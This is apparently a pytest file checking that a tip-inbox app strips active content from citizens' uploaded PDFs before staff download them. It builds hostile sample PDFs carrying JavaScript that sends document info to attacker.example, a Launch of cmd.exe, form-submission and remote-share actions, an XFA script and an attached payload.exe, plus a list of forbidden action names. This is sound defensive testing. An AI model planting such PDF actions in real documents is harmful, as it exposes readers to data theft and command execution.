"""Finding 4 of the hostile review: the staff copy of a citizen's PDF kept annotation and form actions.

One hostile sample per way a PDF can act when opened, clicked or filled in: link annotations running each
action type (JavaScript, Launch, SubmitForm, ImportData, GoToR, GoToE, URI), page and annotation `/AA`
triggers, AcroForm field scripts and XFA, an outline item's action, attachment and rich-media annotations.
The copy staff download (through the app) holds none of them, and still has its pages and its text.
"""
import io

import pytest
from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    TextStringObject,
)
from sqlalchemy import select

from core.extensions import db
from core.tenancy import tenant_scope
from tests.conftest import login

ACTIONS = {
    "/JavaScript": {"/JS": TextStringObject("app.launchURL('http://attacker.example/?c=' + this.info);")},
    "/Launch": {"/F": TextStringObject("C:\\Windows\\System32\\cmd.exe")},
    "/SubmitForm": {"/F": DictionaryObject({NameObject("/F"): TextStringObject("http://attacker.example/form")})},
    "/ImportData": {"/F": TextStringObject("\\\\attacker.example\\share\\data.fdf")},
    "/GoToR": {"/F": TextStringObject("\\\\attacker.example\\share\\other.pdf"),
               "/D": ArrayObject([NumberObject(0), NameObject("/Fit")])},
    "/GoToE": {"/D": ArrayObject([NumberObject(0), NameObject("/Fit")]),
               "/T": DictionaryObject({NameObject("/R"): NameObject("/C"), NameObject("/N"): TextStringObject("x")})},
    "/URI": {"/URI": TextStringObject("http://attacker.example/pixel")},
}
FORBIDDEN = {"/JS", "/JavaScript", "/Launch", "/SubmitForm", "/ImportData", "/GoToR", "/GoToE", "/URI", "/XFA",
             "/OpenAction", "/AA", "/EmbeddedFiles", "/FileAttachment", "/RichMedia"}
LETTER_TEXT = "Đơn trình báo"


def _action(writer, kind):
    values = {NameObject("/S"): NameObject(kind)}
    values.update({NameObject(key): value for key, value in ACTIONS[kind].items()})
    return writer._add_object(DictionaryObject(values))


def _annotation(writer, page, subtype, **extra):
    annotation = DictionaryObject({NameObject("/Type"): NameObject("/Annot"),
                                   NameObject("/Subtype"): NameObject(subtype),
                                   NameObject("/Rect"): ArrayObject([FloatObject(v) for v in (10, 10, 60, 30)])})
    annotation.update({NameObject(key): value for key, value in extra.items()})
    reference = writer._add_object(annotation)
    page.setdefault(NameObject("/Annots"), ArrayObject()).append(reference)
    return reference


def hostile_pdf(kind):
    writer = PdfWriter()
    writer.add_blank_page(300, 300)
    page = writer.pages[0]
    writer.add_annotation(0, _free_text())
    if kind in ACTIONS:
        _annotation(writer, page, "/Link", **{"/A": _action(writer, kind)})
    elif kind == "page-aa":
        page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): _action(writer, "/JavaScript")})
    elif kind == "annotation-aa":
        _annotation(writer, page, "/Link", **{"/AA": DictionaryObject({NameObject("/E"): _action(writer, "/Launch")})})
    elif kind == "acroform":
        field = _annotation(writer, page, "/Widget", **{
            "/FT": NameObject("/Tx"), "/T": TextStringObject("ho_ten"),
            "/AA": DictionaryObject({NameObject("/K"): _action(writer, "/JavaScript"),
                                     NameObject("/Bl"): _action(writer, "/SubmitForm")}),
            "/A": _action(writer, "/ImportData")})
        writer.root_object[NameObject("/AcroForm")] = writer._add_object(DictionaryObject({
            NameObject("/Fields"): ArrayObject([field]),
            NameObject("/XFA"): writer._add_object(_xfa_stream())}))
    elif kind == "outline":
        item = writer.add_outline_item("Mở", 0)
        item.get_object()[NameObject("/A")] = _action(writer, "/JavaScript")
    elif kind == "attachment-annotations":
        _annotation(writer, page, "/FileAttachment", **{"/FS": TextStringObject("payload.exe")})
        _annotation(writer, page, "/RichMedia")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _free_text():
    from pypdf.annotations import FreeText

    return FreeText(text=LETTER_TEXT, rect=(10, 200, 290, 240))


def _xfa_stream():
    from pypdf.generic import StreamObject

    stream = StreamObject()
    stream.set_data(b"<xdp:xdp><script>xfa.host.gotoURL('http://attacker.example')</script></xdp:xdp>")
    return stream


def names_in(data):
    """Every name (keys and values) reachable in the PDF's object graph, and each stream's bytes."""
    reader = PdfReader(io.BytesIO(data))
    found, seen, streams = set(), set(), []

    def walk(value):
        if hasattr(value, "idnum"):
            if (value.idnum, value.generation) in seen:
                return
            seen.add((value.idnum, value.generation))
            value = value.get_object()
        if isinstance(value, NameObject):
            found.add(str(value))
        elif isinstance(value, DictionaryObject):
            if hasattr(value, "get_data"):
                streams.append(value.get_data())
            for key, item in value.items():
                found.add(str(key))
                walk(item)
        elif isinstance(value, ArrayObject):
            for item in value:
                walk(item)

    walk(reader.trailer)
    return found, streams, reader


KINDS = [*ACTIONS, "page-aa", "annotation-aa", "acroform", "outline", "attachment-annotations"]


@pytest.mark.parametrize("kind", KINDS)
def test_the_staff_copy_keeps_no_action_of_any_kind(client, tenant_a, kind):
    original = hostile_pdf(kind)
    assert FORBIDDEN & names_in(original)[0], "the sample must carry what it tests"
    response = client.post(f"/api/v1/public/units/{tenant_a.units['commune'].id}/tips",
                           data={"category": "crime_report", "description": "Đơn kèm theo.",
                                 "files": [(io.BytesIO(original), "don.pdf")]}, content_type="multipart/form-data")
    assert response.status_code == 201, response.get_json()
    from inbox.models import TipAttachment

    with tenant_scope(tenant_a.tenant_id):
        attachment_id = db.session.execute(select(TipAttachment.id).order_by(TipAttachment.id.desc())).scalars().first()
    login(client, tenant_a.users["director"].email)
    copy = client.get(f"/app/inbox/files/{attachment_id}")
    assert copy.status_code == 200 and copy.mimetype == "application/pdf"
    names, streams, reader = names_in(copy.data)
    assert not FORBIDDEN & names, (kind, FORBIDDEN & names)
    assert not any(b"attacker.example" in stream for stream in streams)
    assert b"attacker.example" not in copy.data
    assert len(reader.pages) == 1
    notes = [annotation.get_object().get("/Contents") for annotation in reader.pages[0].get("/Annots", [])]
    assert LETTER_TEXT in notes  # what the citizen wrote on the page is still there
